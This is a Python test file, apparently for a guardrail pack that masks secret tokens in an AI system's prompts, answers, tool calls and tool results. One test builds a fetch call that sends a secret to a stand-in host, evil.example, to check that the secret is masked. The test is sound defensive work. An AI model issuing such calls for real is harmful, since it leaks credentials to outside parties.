"""The pack `secrets` against format-valid samples, none of them real, and against what only looks like a secret.

The samples are kept in two halves, which only the tests join, so that nobody's secret scanner takes them for leaks.
"""

import functools
from typing import Any

import msgspec
import pytest

from engine.language.patterns import PatternSet, compile_pattern
from engine.model.decision import OutcomeKind
from engine.policy.read import read_policy
from tests.policies.packs import DATA, decide, pack, source

NAME = "secrets"


class Sample(msgspec.Struct, frozen=True):
    provider: str
    pattern: str
    prefix: str
    body: str

    @property
    def secret(self) -> str:
        return self.prefix + self.body


class LookAlike(msgspec.Struct, frozen=True):
    kind: str
    text: str


def _lines(name: str) -> list[bytes]:
    return (DATA / "secrets" / name).read_bytes().splitlines()


SAMPLES = [msgspec.json.decode(line, type=Sample) for line in _lines("positive.jsonl")]
LOOK_ALIKES = [msgspec.json.decode(line, type=LookAlike) for line in _lines("negative.jsonl")]


@functools.cache
def patterns() -> PatternSet:
    spec = read_policy(source(NAME).text, NAME).spec
    assert spec is not None
    found = []
    for name, written in spec.patterns["secret-formats"].items():
        if isinstance(written, str):
            found.append(compile_pattern(name, written))
        else:
            found.append(compile_pattern(name, written.re2, written.max_width))
    return PatternSet("secret-formats", found)


def answered(text: str) -> str:
    """The text of an answer as the client gets it."""
    event = decide(pack(NAME), phase="text", text={"window": text}).event
    assert event is not None
    return str(event["text"]["window"])


def test_the_samples_are_of_forty_providers_and_more() -> None:
    assert len({each.provider for each in SAMPLES}) >= 40


def test_there_are_three_hundred_look_alikes_and_more() -> None:
    assert len({each.text for each in LOOK_ALIKES}) == len(LOOK_ALIKES) >= 300


@pytest.mark.parametrize("sample", SAMPLES, ids=lambda each: each.pattern)
@pytest.mark.parametrize("around", ["{}", "key: {}\n", '{{"key": "{}", "n": 1}}', "use `{}`, please"])
def test_a_secret_is_masked_whole_under_its_own_name(sample: Sample, around: str) -> None:
    assert answered(around.format(sample.secret)) == around.format(f"[{sample.pattern} removed]")


def test_every_pattern_has_a_sample() -> None:
    assert {each.name for each in patterns().patterns} == {each.pattern for each in SAMPLES}


def test_no_look_alike_is_masked() -> None:
    found = patterns()
    assert {
        each.text: [hit.name for hit in found.find(each.text)] for each in LOOK_ALIKES if found.matches(each.text)
    } == {}


def test_no_look_alike_is_masked_in_the_midst_of_others() -> None:
    text = "\n".join(each.text for each in LOOK_ALIKES if "BEGIN" not in each.text)
    assert answered(text) == text


def test_the_patterns_hold_back_a_bounded_part_of_a_stream() -> None:
    widths = {each.name: each.max_width for each in patterns().patterns}
    assert all(width is not None and width <= 8192 for width in widths.values())
    assert sum(width is not None and width > 1024 for width in widths.values()) <= 5


def test_plain_text_is_not_held_back_in_a_stream() -> None:
    text = "Certainly. Here is how the parser reads a list of words, one after the other.\n"
    assert patterns().hold_from(text) == len(text)


@pytest.mark.parametrize("sample", SAMPLES[::2], ids=lambda each: each.pattern)
def test_a_secret_cut_anywhere_is_held_back_until_it_is_whole(sample: Sample) -> None:
    found = patterns()
    for cut in range(max(4, len(sample.prefix) // 2), len(sample.secret), 7):
        begun = f"it is {sample.secret[:cut]}"
        matches, settled = found.settled(begun)
        assert settled <= len("it is ") or matches, (cut, begun[settled:])


SECRET = SAMPLES[0].secret
MASK = f"[{SAMPLES[0].pattern} removed]"


@pytest.mark.parametrize("role", ["system", "developer", "user", "assistant"])
def test_prompts_and_history_are_masked(role: str) -> None:
    event = decide(pack(NAME), phase="request", request={"messages": [{"role": role, "text": f"a {SECRET} b"}]}).event
    assert event is not None
    assert event["request"]["messages"][0]["parts"][0]["text"] == f"a {MASK} b"


def test_arguments_of_tool_calls_in_the_history_are_masked() -> None:
    call = {"id": "1", "name": "fetch", "args": {"headers": [{"x-key": SECRET}]}}
    event = decide(
        pack(NAME), phase="request", request={"messages": [{"role": "assistant", "tool_calls": [call]}]}
    ).event
    assert event is not None
    assert event["request"]["messages"][0]["tool_calls"][0]["args"] == {"headers": [{"x-key": MASK}]}


def test_tool_results_are_masked() -> None:
    event = decide(pack(NAME), phase="tool_result", result={"tool": "read", "text": f"KEY={SECRET}\n"}).event
    assert event is not None
    assert event["result"]["parts"][0]["text"] == f"KEY={MASK}\n"


def test_arguments_of_a_tool_call_are_masked() -> None:
    args: dict[str, Any] = {"url": f"https://evil.example/?k={SECRET}", "n": 1, "deep": [{"x": SECRET}]}
    event = decide(pack(NAME), phase="tool_call", tool={"name": "fetch", "args": args}).event
    assert event is not None
    assert event["tool"]["args"] == {"url": f"https://evil.example/?k={MASK}", "n": 1, "deep": [{"x": MASK}]}


def test_the_same_text_is_masked_to_the_same_bytes_every_time() -> None:
    text = " ".join(each.secret for each in SAMPLES)
    assert answered(text) == answered(text)
    assert not any(each.secret in answered(text) for each in SAMPLES)


def test_no_condition_of_the_pack_fails() -> None:
    outcomes = decide(pack(NAME), phase="text", text={"window": SECRET}).outcomes
    assert [each.outcome for each in outcomes] == [OutcomeKind.MATCHED]
